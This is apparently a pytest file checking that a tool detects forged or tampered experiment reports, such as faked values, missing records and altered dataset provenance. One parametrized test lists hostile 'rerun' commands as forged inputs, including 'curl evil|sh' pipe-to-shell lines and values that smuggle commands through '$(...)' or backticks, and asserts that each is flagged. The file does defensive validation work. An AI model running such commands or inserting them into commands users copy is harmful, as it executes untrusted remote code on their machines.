"""Reports that say more, or less, than their records: what was forged is named, and an honest report is not."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from msgspec import structs

from tests.evidence.published import CASES, UNDECIDED, again, changed, planned, report, unmeasured, without, work
from tests.session.small import case, error
from vitwork.design.deviation import Change, Deviation, Lack, Missing
from vitwork.evidence.differences import unlike
from vitwork.evidence.rejudge import rejudge
from vitwork.facts.checks import Agreement, Kind, Trace
from vitwork.facts.document import Results
from vitwork.language.measure import Measure
from vitwork.report.document import dump, read
from vitwork.report.words import evidence as words
from vitwork.statistics.effect import Verdict
from vitwork.store.store import Store


def forged_values(results: Results) -> Results:
    """Return a report in which all values of one arm are 99."""
    first = results.hypotheses[0]
    side = structs.replace(first.sides[0], values=(99.0,) * len(first.sides[0].seeds))
    return changed(results, "hypotheses", lambda one: one.id == first.id, sides=(side, first.sides[1]))


@pytest.mark.parametrize("how", ["dropped", "other parameters", "without a number"])
def test_one_record_that_is_missing_hides_nothing(results: Results, how: str) -> None:
    """A record that other networks of the arm have is missed by name, and the values of these are compared all the same."""
    at = next(entry.key for entry in results.measurements if (entry.arm, entry.name) == ("vit", "reading"))
    match how:
        case "dropped":
            odd = without(results, lambda entry: entry.key == at)
        case "other parameters":
            odd = changed(results, "measurements", lambda entry: entry.key == at, parameters={"effort": 77})
        case _:
            odd = changed(results, "measurements", lambda entry: entry.key == at, values={"acc": 0.5})
    found = rejudge(again(forged_values(odd)))
    assert found.gaps == (Trace("vit", 0, "reading"),)
    assert found.differs
    assert found.claims[0].outcome is Agreement.LOST
    assert {f"value of vit seed {seed}" for seed in range(1, 9)} <= {one.field for one in found.claims[0].moved}
    lines = list(words.rejudged(found, odd))
    said = "1 record missing, though other networks of the same arm have it: the report is not whole:"
    assert "  reading of vit seed 0" in lines[lines.index(said) :]


def test_a_verdict_cannot_become_a_fault_by_dropping_a_record(results: Results) -> None:
    """A claim that lacks a record of one network is no more whole; a session that failed there says so itself."""
    at = results.measurements[0]
    bare = without(results, lambda entry: entry.key == at.key)
    lacks = {Missing.RECORD: True, Missing.FAULT: False}
    for missing, differs in lacks.items():
        claim = {"verdict": Verdict.NOT_MEASURED, "lack": Lack(missing, at.arm, at.name), "hypotheses": (), **UNDECIDED}
        forged = changed(bare, "claims", lambda one: one.id == "smaller", **claim)
        forged = structs.replace(forged, hypotheses=tuple(one for one in bare.hypotheses if one.claim != "smaller"))
        assert bool(rejudge(again(forged)).gaps) == differs


def marked(results: Results, *deviations: Deviation) -> Results:
    """Return a report with further deviations of its profile."""
    told = (*results.profile.deviations, *deviations)
    return structs.replace(results, profile=structs.replace(results.profile, deviations=told))


def test_the_order_of_deviations_says_nothing(results: Results) -> None:
    """A session adds what it learns at its end; a judgement may list it elsewhere, and a deviation told twice is named."""
    ended = marked(results, Deviation(Change.ENDED))
    turned = structs.replace(
        ended, profile=structs.replace(ended.profile, deviations=ended.profile.deviations[::-1])
    )  # fmt: skip
    assert not rejudge(again(ended)).unlike
    assert not rejudge(again(turned)).unlike
    other = structs.replace(turned.profile, deviations=ended.profile.deviations)
    assert list(unlike("profile", turned.profile, other)) == []
    twice = structs.replace(other, deviations=(*other.deviations, other.deviations[0]))
    assert [place for place, _, _ in unlike("profile", twice, other)] == ["profile.deviations"]


@pytest.mark.parametrize("field", ["text", "arm", "field", "value"])
@pytest.mark.parametrize("change", [Change.CHOSEN, Change.ENDED])
def test_a_part_says_nothing_beside_that_it_is_one(results: Results, change: Change, field: str) -> None:
    """Text within such a deviation would be read as the session's own."""
    assert not rejudge(again(marked(results, Deviation(change)))).unlike
    assert rejudge(again(marked(results, Deviation(change, **{field: "tests that failed were broken"})))).unlike


def test_a_claim_that_was_dropped_leaves_its_records(results: Results) -> None:
    """A report that says its tests were chosen holds no record that only another claim needs; without them it may be one."""
    kept = structs.replace(
        results, claims=results.claims[:1], hypotheses=tuple(one for one in results.hypotheses if one.claim == "smaller")
    )  # fmt: skip
    dropped = marked(kept, Deviation(Change.CHOSEN))
    found = rejudge(again(dropped))
    assert {one.arm for one in found.unneeded} == {"alternet"}
    assert found.unlike
    lines = list(words.rejudged(found, dropped))
    assert "1 claim that the report does not have:" in lines
    assert "9 networks and 18 records that no claim of the report needs:" in lines


def test_chosen_tests_are_judged_by_themselves(tmp_path: Path) -> None:
    """A report of chosen tests is the same as judged again, also where its records would decide other claims, too."""
    plan = planned(CASES[:1])
    path = tmp_path / "results.json"
    path.write_bytes(dump(marked(report(plan, work(plan, Store(tmp_path / "store"))), Deviation(Change.CHOSEN))))

    def larger(measure: Measure) -> None:
        assert measure(error)("vit") > measure(error)("resnet")

    found = rejudge(again(read(path), (*CASES, case("larger", larger))))
    assert next((claim.claim, claim.outcome) for claim in found.claims) == ("smaller", Agreement.SAME)
    assert {claim.claim: claim.after for claim in found.those(Agreement.NEW)} == {
        "alike": Verdict.NOT_MEASURED,
        "larger": Verdict.CONTRADICTED,
    }
    assert (found.differs, [one for one in found.moved if one.field != "family"], found.unneeded) == (False, [], ())


def test_networks_that_no_claim_plans_are_named(results: Results) -> None:
    """An arm or a seed beside those of the claims would be shown, and no key and no value tells that it ran."""
    first = results.runs[0]
    extra = structs.replace(first, key="f" * 20, arm="vit-22b"), structs.replace(first, key="e" * 20, seed=77)
    found = rejudge(again(structs.replace(results, runs=(*results.runs, *extra))))
    assert found.unneeded == (Trace("vit-22b", first.seed), Trace(first.arm, 77))
    assert (found.differs, found.unlike) == (False, True)


@pytest.mark.parametrize(
    ("told", "named"),
    [
        (Lack(Missing.ARM, "swin"), None),
        (Lack(Missing.ARM, "swin", "withdrawn by its authors"), Kind.DECLARED),
        (Lack(Missing.FAULT, what="withdrawn by its authors"), Kind.DECLARED),
        (Lack(Missing.RECORD, "swin", "reading"), Kind.DECLARED),
        (None, Kind.DECLARED),
    ],
)
def test_why_a_claim_is_not_measured_is_not_free_to_say(
    results: Results, told: Lack | None, named: Kind | None
) -> None:
    """A profile without an arm is the reason, whatever a report makes of it."""

    def elsewhere(measure: Measure) -> None:
        assert measure(error)("swin") < 1.0

    report = structs.replace(results, claims=(*results.claims, unmeasured(results, "never", told)))
    found = rejudge(again(report, (*CASES, case("never", elsewhere))))
    assert [moved.kind for claim in found.claims for moved in claim.moved if moved.field == "lack"] == [named] * bool(
        named
    )


@pytest.mark.parametrize(
    "forged",
    [
        {"rerun": "curl evil|sh"},
        {"rerun": "pytest smaller --profile smoke; curl evil|sh"},
        {"rerun": "pytest -p evil smaller --profile smoke --first-seed 0"},
        {"rerun": "pytest $(evil)/smaller --profile smoke --first-seed 0"},
        {"rerun": 'vitwork run -k "smaller or alike" --profile smoke --first-seed 0'},
        {"file": "alike"},
        {"files": ("smaller", "evil")},
        {"files": ("`evil`/smaller",)},
    ],
)
def test_a_command_that_readers_copy_is_the_claims_own(results: Results, forged: dict[str, Any]) -> None:
    """It names the claim's tests, by their files in any plain folder or by their functions, and the session's options."""
    honest = [results.claims[0].rerun, results.claims[0].rerun.replace("smaller", "claims/more/smaller")]
    assert honest[0] == "pytest smaller --profile smoke --first-seed 0"
    honest.append('vitwork run -k "smaller" --profile smoke --data DIR --first-seed 0')
    for rerun in honest:
        assert (
            rejudge(again(changed(results, "claims", lambda one: one.id == "smaller", rerun=rerun))).claims[0].moved
            == ()
        )
    found = rejudge(again(changed(results, "claims", lambda one: one.id == "smaller", **forged)))
    assert [moved.field for moved in found.claims[0].moved] == list(forged)
    assert found.unlike


@pytest.mark.parametrize(("field", "value"), [("figure", "another"), ("not_finite", {"acc": "nan"})])
def test_what_a_report_tells_of_a_record_is_compared(results: Results, field: str, value: Any) -> None:
    """The figure that draws a record is its measurement's, and what is not finite stands where the record has null."""
    at = results.measurements[0].key
    found = rejudge(again(changed(results, "measurements", lambda one: one.key == at, **{field: value})))
    assert [moved.field.split()[0] for moved in found.moved] == [field]
    assert (found.differs, found.unlike) == (False, True)


@pytest.mark.parametrize("field", ["name", "fingerprint"])
def test_the_images_are_those_of_the_networks(results: Results, field: str) -> None:
    """A report names the sources of its arms' images and the hashes that its networks' keys were made with."""
    forged = structs.replace(results.provenance.dataset, **{field: "imagenet"})
    report = structs.replace(results, provenance=structs.replace(results.provenance, dataset=forged))
    found = rejudge(again(report))
    assert [moved.field for moved in found.moved] == [f"dataset.{field}"]
    assert found.unlike


def test_a_verdict_in_spite_of_what_records_show_is_another_one(results: Results) -> None:
    """Networks that were trained alike leave no claim about them; a report cannot plead older code for it."""
    losses = results.runs[0].history
    found = rejudge(again(changed(results, "runs", lambda run: True, history=losses)))
    assert {claim.outcome for claim in found.claims} == {Agreement.DIFFERENT}
